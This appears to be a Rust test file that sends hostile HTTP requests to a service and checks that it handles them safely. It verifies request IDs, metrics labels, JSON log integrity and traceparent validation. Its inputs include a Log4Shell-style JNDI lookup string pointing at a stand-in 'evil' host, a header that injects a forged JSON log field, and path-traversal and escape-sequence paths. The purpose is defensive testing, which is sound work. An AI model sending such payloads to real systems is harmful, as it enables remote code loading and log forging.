//! Hostile requests: nothing of them gets anywhere that it should not.

use crate::error::Failure;
use crate::scenario::lone::Lone;
use crate::scenario::outcome::{Outcome, expect};

/// Header blocks that a stranger may send, and whether the request itself is still served.
const HOSTILE: [&[u8]; 9] = [
    b"x-request-id: a b c\r\n",
    b"x-request-id: \xff\xfe\x80\r\n",
    b"x-request-id: ${jndi:ldap://evil}\r\n",
    b"x-request-id: \"},\"level\":\"fatal\r\n",
    b"traceparent: 00-00000000000000000000000000000000-0000000000000000-01\r\n",
    b"traceparent: ff-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\n",
    b"traceparent: 00-0AF7651916CD43DD8448EB211C80319C-B7AD6B7169203331-01\r\n",
    b"traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\ntraceparent: 00-1af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\n",
    b"tracestate: ======,,,,\r\nbaggage: %%%%%\r\n",
];

pub(crate) fn requests() -> Result<Outcome, Failure> {
    let lone = Lone::start(&[])?;
    for (number, headers) in HOSTILE.iter().enumerate() {
        let mut request = format!("POST /charge/hostile-{number} HTTP/1.1\r\nhost: test\r\ncontent-length: 0\r\nconnection: close\r\n").into_bytes();
        request.extend_from_slice(headers);
        request.extend_from_slice(b"\r\n");
        let answer = lone.raw(&request)?;
        let shown = String::from_utf8_lossy(headers).into_owned();
        expect(answer.starts_with("HTTP/1.1 200"), &format!("{shown:?} was answered {answer:?}"))?;
        let ids: Vec<_> =
            answer.lines().filter_map(|line| line.strip_prefix("x-request-id: ")).collect();
        expect(ids.len() == 1 && ids[0].len() == 36, &format!("{shown:?} gave the ids {ids:?}"))?;
    }
    let long = "z".repeat(4_000);
    let paths = ["/charge/%1b%5b31mred", "/%00%ff/../..", "/charge/{id}", &format!("/{long}")];
    for path in paths {
        let answer = lone.raw(
            format!("GET {path} HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n").as_bytes(),
        )?;
        expect(answer.starts_with("HTTP/1.1 4"), &format!("{path} was answered {answer:?}"))?;
    }
    for number in 0..300 {
        lone.raw(format!("GET /scan/{number} HTTP/1.0\r\n\r\n").as_bytes())?;
    }
    lone.raw(b"BREW /charge/1 HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n")?;
    lone.raw(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 no HTTP at all")?;
    let metrics = lone.http.get(&format!("{}/metrics", lone.admin))?.body;
    let series = metrics.lines().filter(|line| line.starts_with("http_requests_total{")).count();
    expect(series <= 8, &format!("{series} series of http_requests_total after a scan"))?;
    expect(metrics.contains("method=\"_OTHER\""), "BREW is not counted as _OTHER")?;
    expect(!metrics.contains("/scan/"), "a raw path became a label")?;

    let (lines, report) = lone.end()?;
    for line in &lines {
        expect(line.json.is_object(), &format!("no JSON object: {:?}", line.text))?;
        expect(
            line.json["level"] != "fatal",
            &format!("a header forged a field: {:?}", line.text),
        )?;
        let control = line.text.chars().any(char::is_control);
        expect(!control, &format!("a control character in {:?}", line.text))?;
    }
    let forged =
        lines.iter().find(|line| line.json["trace_id"] == "0AF7651916CD43DD8448EB211C80319C");
    expect(forged.is_none(), "an invalid traceparent was taken over")?;
    expect(report["lost"] == 0, &format!("the shutdown reports {report}"))?;
    Ok(Outcome::Passed)
}
